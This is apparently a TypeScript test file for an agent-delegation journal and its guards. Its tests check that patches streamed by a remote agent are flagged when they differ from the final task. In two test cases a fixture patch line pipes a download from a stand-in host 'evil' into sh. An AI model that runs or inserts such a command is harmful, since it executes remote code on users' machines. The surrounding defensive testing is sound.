// Pure parts: the outcome decision, the journal fold (dedupe by seq, sticky terminal state), the view
// model, the context parts builder, capability intersection and the chain guards, and the coalescer.
import * as assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { describe, it } from 'node:test';
import type { Artifact, Part, StreamResponse, Task } from '@a2a-js/sdk';
import { Role, TaskState } from '@a2a-js/sdk';
import { META } from '../../../src/core/batonProfile';
import type { CoalescerClock } from '../../../src/core/coalescer';
import { UpdateCoalescer } from '../../../src/core/coalescer';
import type { JournalEntry, OutcomeFacts } from '../../../src/core/delegation';
import { DelegationJournal, decideOutcome } from '../../../src/core/delegation';
import { buildDelegationMessage } from '../../../src/core/delegation/context';
import { checkDelegationChain, intersectCapabilities, READ_ONLY } from '../../../src/core/delegation/guards';
import { makeRequest } from './harness';

const base: OutcomeFacts = {
  messageResult: false,
  cancelAnswered: false,
  cancelConfirmed: false,
  replyPending: false,
  endpoint: 'https://a.example/a2a',
};

function status(state: TaskState, seq?: number, text?: string): StreamResponse {
  return {
    payload: {
      $case: 'statusUpdate',
      value: {
        taskId: 't',
        contextId: 'c',
        status: {
          state,
          timestamp: undefined,
          message: text
            ? {
                messageId: 'm',
                contextId: 'c',
                taskId: 't',
                role: Role.ROLE_AGENT,
                parts: [{ content: { $case: 'text', value: text }, filename: '', mediaType: '', metadata: undefined }],
                metadata: undefined,
                extensions: [],
                referenceTaskIds: [],
              }
            : undefined,
        },
        metadata: seq === undefined ? undefined : { [META.seq]: seq },
      },
    },
  };
}

describe('decideOutcome', () => {
  it('maps every terminal and interrupted state, and nothing while in flight', () => {
    assert.equal(decideOutcome(base), undefined);
    assert.equal(decideOutcome({ ...base, taskState: TaskState.TASK_STATE_WORKING }), undefined);
    assert.equal(decideOutcome({ ...base, taskState: TaskState.TASK_STATE_COMPLETED })?.outcome, 'completed');
    assert.deepEqual(decideOutcome({ ...base, taskState: TaskState.TASK_STATE_FAILED, stateText: 'boom' }), {
      outcome: 'failed',
      reason: 'boom',
    });
    assert.equal(decideOutcome({ ...base, taskState: TaskState.TASK_STATE_REJECTED })?.outcome, 'rejected');
    assert.equal(decideOutcome({ ...base, taskState: TaskState.TASK_STATE_INPUT_REQUIRED })?.outcome, 'input-required');
    assert.equal(
      decideOutcome({ ...base, taskState: TaskState.TASK_STATE_INPUT_REQUIRED, replyPending: true }),
      undefined,
    );
    assert.equal(decideOutcome({ ...base, taskState: TaskState.TASK_STATE_AUTH_REQUIRED })?.outcome, 'auth-required');
    assert.equal(decideOutcome({ ...base, taskState: TaskState.TASK_STATE_CANCELED })?.outcome, 'canceled');
  });
  it('deadline cancel is expired; user cancel is canceled; confirmation is reported', () => {
    assert.deepEqual(
      decideOutcome({ ...base, taskState: TaskState.TASK_STATE_CANCELED, cancelBy: 'deadline' })?.outcome,
      'expired',
    );
    const unconfirmed = decideOutcome({
      ...base,
      taskState: TaskState.TASK_STATE_WORKING,
      cancelBy: 'deadline',
      cancelAnswered: true,
    });
    assert.equal(unconfirmed?.outcome, 'expired');
    assert.equal(unconfirmed?.cancelConfirmed, false);
    assert.equal(
      decideOutcome({ ...base, taskState: TaskState.TASK_STATE_WORKING, cancelBy: 'user' }),
      undefined,
      'waiting for the answer',
    );
    assert.equal(
      decideOutcome({ ...base, taskState: TaskState.TASK_STATE_WORKING, cancelBy: 'user', cancelAnswered: true })
        ?.cancelConfirmed,
      false,
    );
    // The task finished before the cancel landed: the real outcome wins.
    assert.equal(
      decideOutcome({ ...base, taskState: TaskState.TASK_STATE_COMPLETED, cancelBy: 'user', cancelAnswered: true })
        ?.outcome,
      'completed',
    );
  });
  it('lost contact and an in-doubt send are unknown; a send that never left is failed', () => {
    assert.equal(
      decideOutcome({ ...base, taskState: TaskState.TASK_STATE_WORKING, contactLost: 'ECONNRESET' })?.outcome,
      'unknown',
    );
    assert.equal(decideOutcome({ ...base, sendFailed: { delivered: 'maybe', error: 'reset' } })?.outcome, 'unknown');
    assert.equal(decideOutcome({ ...base, sendFailed: { delivered: 'no', error: 'ECONNREFUSED' } })?.outcome, 'failed');
    assert.equal(
      decideOutcome({ ...base, taskState: TaskState.TASK_STATE_FAILED, agentOutcome: 'expired' })?.outcome,
      'expired',
    );
  });
});

describe('DelegationJournal', () => {
  const req = makeRequest({ url: 'http://127.0.0.1:1/a2a', protocolBinding: 'JSONRPC', protocolVersion: '1.0' }, 'T');
  it('drops a sequenced event it already has and keeps the cursor contiguous', () => {
    const j = new DelegationJournal(req);
    j.apply({ kind: 'send', at: 1, attempt: 1 });
    j.apply({ kind: 'task', at: 1, taskId: 't', contextId: 'c' });
    assert.equal(
      j.apply({
        kind: 'event',
        at: 2,
        taskId: 't',
        seq: 1,
        sequenced: true,
        event: status(TaskState.TASK_STATE_WORKING, 1),
      }),
      true,
    );
    assert.equal(
      j.apply({
        kind: 'event',
        at: 3,
        taskId: 't',
        seq: 3,
        sequenced: true,
        event: status(TaskState.TASK_STATE_WORKING, 3, 'three'),
      }),
      true,
    );
    assert.equal(j.cursor, 1, 'gap at 2');
    assert.equal(
      j.apply({
        kind: 'event',
        at: 4,
        taskId: 't',
        seq: 3,
        sequenced: true,
        event: status(TaskState.TASK_STATE_WORKING, 3, 'three'),
      }),
      false,
    );
    assert.equal(
      j.apply({
        kind: 'event',
        at: 5,
        taskId: 't',
        seq: 2,
        sequenced: true,
        event: status(TaskState.TASK_STATE_WORKING, 2, 'two'),
      }),
      true,
    );
    assert.equal(j.cursor, 3);
    assert.equal(j.eventCount, 3);
  });
  it('a terminal state is final: a late older event does not reopen the task', () => {
    const j = new DelegationJournal(req);
    j.apply({ kind: 'send', at: 1, attempt: 1 });
    j.apply({
      kind: 'event',
      at: 2,
      taskId: 't',
      seq: 5,
      sequenced: true,
      event: status(TaskState.TASK_STATE_COMPLETED, 5),
    });
    j.apply({
      kind: 'event',
      at: 3,
      taskId: 't',
      seq: 4,
      sequenced: true,
      event: status(TaskState.TASK_STATE_WORKING, 4),
    });
    assert.equal(j.state(), 'completed');
  });
  it('the view caps the timeline and counts what it left out', () => {
    const j = new DelegationJournal(req, { timelineLimit: 10 });
    j.apply({ kind: 'send', at: 1, attempt: 1 });
    for (let i = 1; i <= 100; i++)
      j.apply({
        kind: 'event',
        at: i,
        taskId: 't',
        seq: i,
        sequenced: false,
        event: status(TaskState.TASK_STATE_WORKING, undefined, `s${i}`),
      });
    const v = j.view(1000);
    assert.equal(v.timeline.length, 10);
    assert.equal(v.timelineOmitted, 90);
    assert.equal(v.timeline.at(-1)?.kind === 'step' ? v.timeline.at(-1)?.kind : 'x', 'step');
    assert.equal(v.state, 'working');
    assert.equal(v.actions.cancel, true);
  });
});

describe('DelegationJournal: the stream against the final task', () => {
  const req = makeRequest({ url: 'http://127.0.0.1:1/a2a', protocolBinding: 'JSONRPC', protocolVersion: '1.0' }, 'T');
  const part = (text: string): Part => ({
    content: { $case: 'text', value: text },
    filename: 'changes.patch',
    mediaType: 'text/x-diff',
    metadata: undefined,
  });
  const artifact = (artifactId: string, name: string, texts: readonly string[]): Artifact => ({
    artifactId,
    name,
    description: '',
    parts: texts.map(part),
    metadata: undefined,
    extensions: [],
  });
  const chunk = (a: Artifact, append: boolean, lastChunk = false): StreamResponse => ({
    payload: {
      $case: 'artifactUpdate',
      value: { taskId: 't', contextId: 'c', artifact: a, append, lastChunk, metadata: undefined },
    },
  });
  const finalTask = (artifacts: Artifact[]): Task => ({
    id: 't',
    contextId: 'c',
    status: { state: TaskState.TASK_STATE_COMPLETED, message: undefined, timestamp: undefined },
    artifacts,
    history: [],
    metadata: undefined,
  });
  /** A journal that streamed `events` (artifact chunks), completed, then took `final` as the final task. */
  function journal(events: readonly StreamResponse[], ...finals: Artifact[][]): DelegationJournal {
    const j = new DelegationJournal(req);
    j.apply({ kind: 'send', at: 1, attempt: 1 });
    j.apply({ kind: 'task', at: 1, taskId: 't', contextId: 'c' });
    events.forEach((event, i) =>
      j.apply({ kind: 'event', at: 2 + i, taskId: 't', seq: i + 1, sequenced: false, event }),
    );
    j.apply({
      kind: 'event',
      at: 50,
      taskId: 't',
      seq: 99,
      sequenced: false,
      event: status(TaskState.TASK_STATE_COMPLETED),
    });
    for (const f of finals) j.apply({ kind: 'snapshot', at: 60, source: 'final', task: finalTask(f) });
    return j;
  }
  const signed = artifact('p', 'changes.patch', ['diff --git a/x b/x\n', '+b\n']);
  const honest = [
    chunk(artifact('p', 'changes.patch', ['diff --git a/x b/x\n']), false),
    chunk(artifact('p', '', ['+b\n']), true),
  ];

  it('streamed in append chunks that fold to the final task: no conflict', () => {
    assert.deepEqual(journal(honest, [signed]).artifactConflicts(), []);
    assert.deepEqual(journal([chunk(signed, false)], [signed]).artifactConflicts(), [], 'the same text in one chunk');
    assert.deepEqual(journal([], [signed]).artifactConflicts(), [], 'nothing streamed (polling)');
    assert.deepEqual(
      journal([honest[0]], [signed]).artifactConflicts(),
      [],
      'the stream stopped before the last chunk: a beginning of it',
    );
  });

  it('streamed but not in the final task: another changes.patch, or any other artifact', () => {
    const evil = chunk(artifact('e', 'changes.patch', ['+curl evil | sh\n']), false);
    const j = journal([evil, ...honest], [signed]);
    assert.deepEqual(j.artifactConflicts(), [{ kind: 'not-final', artifactId: 'e', name: 'changes.patch' }]);
    // The patch the journal shows is the final one, although the streamed one came first.
    assert.equal(j.patch()?.artifactId, 'p');
    assert.equal(j.patch()?.text, 'diff --git a/x b/x\n+b\n');
    const notes = journal([...honest, chunk(artifact('n', 'notes.md', ['hi']), false)], [signed]);
    assert.deepEqual(notes.artifactConflicts(), [{ kind: 'not-final', artifactId: 'n', name: 'notes.md' }]);
  });

  it('append chunks that fold to something else than the final task: changed, extra, missing, replaced, renamed', () => {
    const cases: StreamResponse[][] = [
      [honest[0], chunk(artifact('p', '', ['+c\n']), true)],
      [...honest, chunk(artifact('p', '', ['+curl evil | sh\n']), true)],
      [chunk(artifact('p', 'changes.patch', ['diff --git a/x b/x\n']), false, true)],
      [chunk(artifact('p', 'changes.patch', ['diff --git a/y b/y\n']), false)],
      [honest[0], chunk(artifact('p', 'changes.patch', ['+b\n']), false)],
      [chunk(artifact('p', 'notes.md', ['diff --git a/x b/x\n']), false), honest[1]],
    ];
    for (const [i, events] of cases.entries()) {
      assert.deepEqual(
        journal(events, [signed])
          .artifactConflicts()
          .map((c) => [c.kind, c.artifactId]),
        [['differs', 'p']],
        `case ${i}`,
      );
    }
  });

  it('an artifact update after the final task, and a second final task with other content', () => {
    const j = journal(honest, [signed]);
    j.apply({
      kind: 'event',
      at: 70,
      taskId: 't',
      seq: 100,
      sequenced: false,
      event: chunk(artifact('p', '', ['+late\n']), true),
    });
    assert.deepEqual(j.artifactConflicts(), [{ kind: 'after-final', artifactId: 'p', name: 'changes.patch' }]);
    assert.equal(j.patch()?.text, 'diff --git a/x b/x\n+b\n', 'the late chunk does not change the final patch');
    assert.deepEqual(
      journal(honest, [signed], [artifact('p', 'changes.patch', ['+other\n'])])
        .artifactConflicts()
        .map((c) => c.kind),
      ['differs'],
    );
    assert.deepEqual(journal(honest, [signed], [signed]).artifactConflicts(), [], 'the same final task twice');
  });

  it('replayed from disk, the journal finds the same conflicts', () => {
    const j = journal([chunk(artifact('e', 'changes.patch', ['+x\n']), false), ...honest], [signed]);
    const entries: JournalEntry[] = [
      { kind: 'request', at: 0, request: req },
      { kind: 'send', at: 1, attempt: 1 },
    ];
    entries.push({ kind: 'task', at: 1, taskId: 't', contextId: 'c' });
    [chunk(artifact('e', 'changes.patch', ['+x\n']), false), ...honest].forEach((event, i) =>
      entries.push({ kind: 'event', at: 2 + i, taskId: 't', seq: i + 1, sequenced: false, event }),
    );
    entries.push({ kind: 'snapshot', at: 60, source: 'final', task: finalTask([signed]) });
    assert.deepEqual(DelegationJournal.fromEntries(entries).artifactConflicts(), j.artifactConflicts());
  });
});

describe('context parts', () => {
  const sha = (t: string): string => createHash('sha256').update(t).digest('hex');
  it('selection, files and diagnostics travel as parts with digests; repository state in metadata', () => {
    const { message, contextDigests } = buildDelegationMessage({
      requestId: 'r1',
      task: 'Fix the bug',
      selection: {
        path: 'src/a.ts',
        range: { startLine: 1, startCharacter: 0, endLine: 2, endCharacter: 3 },
        text: 'let x = 1;',
      },
      files: [{ path: 'src/b.ts', text: 'export {}' }],
      diagnostics: [
        {
          path: 'src/a.ts',
          range: { startLine: 1, startCharacter: 4, endLine: 1, endCharacter: 5 },
          severity: 'error',
          message: 'unused',
        },
      ],
      repository: { root: '/repo', baseCommit: 'abc', uncommittedDigest: 'sha256:00' },
      capabilities: READ_ONLY,
      deadline: Date.UTC(2030, 0, 1),
      chain: ['agent'],
    });
    assert.equal(message.messageId, 'r1');
    assert.equal(message.parts.length, 4);
    assert.equal(message.parts[1].metadata?.[META.digest], `sha256:${sha('let x = 1;')}`);
    assert.deepEqual(message.parts[1].metadata?.[META.range], {
      startLine: 1,
      startCharacter: 0,
      endLine: 2,
      endCharacter: 3,
    });
    assert.equal(message.parts[2].filename, 'src/b.ts');
    assert.equal(message.parts[3].content?.$case, 'data');
    const d = message.parts[3];
    assert.equal(
      d.metadata?.[META.digest],
      `sha256:${sha(JSON.stringify(d.content?.$case === 'data' ? d.content.value : null))}`,
    );
    assert.equal(message.metadata?.[META.baseCommit], 'abc');
    assert.equal(message.metadata?.[META.deadline], '2030-01-01T00:00:00.000Z');
    assert.deepEqual(message.metadata?.[META.files], ['src/a.ts', 'src/b.ts']);
    assert.deepEqual(
      contextDigests.map((c) => c.kind),
      ['selection', 'file', 'diagnostics', 'uncommitted'],
    );
  });
  it('the pure SHA-256 default matches node:crypto', () => {
    const { contextDigests } = buildDelegationMessage({
      requestId: 'r',
      task: 't',
      files: [{ path: 'f', text: 'héllo' }],
      capabilities: READ_ONLY,
      chain: [],
    });
    assert.equal(contextDigests[0].digest, `sha256:${sha('héllo')}`);
  });
});

describe('guards', () => {
  it('capabilities: granted only when every party grants; read-only by default', () => {
    assert.deepEqual(intersectCapabilities(), READ_ONLY);
    assert.deepEqual(intersectCapabilities({ write: true, shell: true }, { write: true }, undefined), READ_ONLY);
    assert.deepEqual(intersectCapabilities({ write: true, shell: true }, { write: true, shell: false }), {
      write: true,
      shell: false,
      network: false,
    });
  });
  it('depth, breadth and cycles', () => {
    assert.deepEqual(checkDelegationChain([], 'a'), { ok: true, chain: ['a'] });
    assert.equal(checkDelegationChain(['a'], 'b').ok, false, 'default depth 1');
    const deeper = { maxDepth: 3, maxBreadth: 2 };
    assert.deepEqual(checkDelegationChain(['a'], 'b', 0, deeper), { ok: true, chain: ['a', 'b'] });
    const cycle = checkDelegationChain(['a', 'b'], 'a', 0, deeper);
    assert.equal(cycle.ok === false && cycle.code, 'cycle');
    const breadth = checkDelegationChain(['a'], 'c', 2, deeper);
    assert.equal(breadth.ok === false && breadth.code, 'breadth');
  });
});

class FakeClock implements CoalescerClock {
  t = 0;
  timers: Array<{ at: number; fn: () => void; id: number }> = [];
  private nextId = 1;
  now(): number {
    return this.t;
  }
  setTimeout(fn: () => void, ms: number): unknown {
    const id = this.nextId++;
    this.timers.push({ at: this.t + ms, fn, id });
    return id;
  }
  clearTimeout(h: unknown): void {
    this.timers = this.timers.filter((x) => x.id !== h);
  }
  advance(ms: number): void {
    const end = this.t + ms;
    for (;;) {
      this.timers.sort((a, b) => a.at - b.at);
      const next = this.timers[0];
      if (!next || next.at > end) break;
      this.timers.shift();
      this.t = next.at;
      next.fn();
    }
    this.t = end;
  }
}

describe('UpdateCoalescer', () => {
  it('at most one post per interval however fast updates come, always the latest', () => {
    const clock = new FakeClock();
    let value = 0;
    const posted: number[] = [];
    const c = new UpdateCoalescer({
      produce: () => value,
      post: (v) => posted.push(v),
      clock,
      minIntervalMs: 1000 / 60,
    });
    for (let ms = 0; ms < 1000; ms++) {
      for (let k = 0; k < 10; k++) {
        value++;
        c.invalidate();
      }
      clock.advance(1);
    }
    clock.advance(100);
    assert.ok(posted.length <= 61, `${posted.length} posts in a second`);
    assert.ok(posted.length >= 50, `${posted.length} posts in a second`);
    assert.equal(posted.at(-1), 10_000, 'the last post carries the latest state');
  });
  it('posts nothing while hidden and replays the latest when shown', () => {
    const clock = new FakeClock();
    let value = 'a';
    const posted: string[] = [];
    const c = new UpdateCoalescer({ produce: () => value, post: (v) => posted.push(v), clock, minIntervalMs: 10 });
    c.setVisible(false);
    for (const v of ['b', 'c', 'd']) {
      value = v;
      c.invalidate();
      clock.advance(50);
    }
    assert.deepEqual(posted, []);
    c.setVisible(true);
    assert.deepEqual(posted, ['d']);
    c.dispose();
    c.invalidate();
    clock.advance(50);
    assert.deepEqual(posted, ['d']);
  });
});
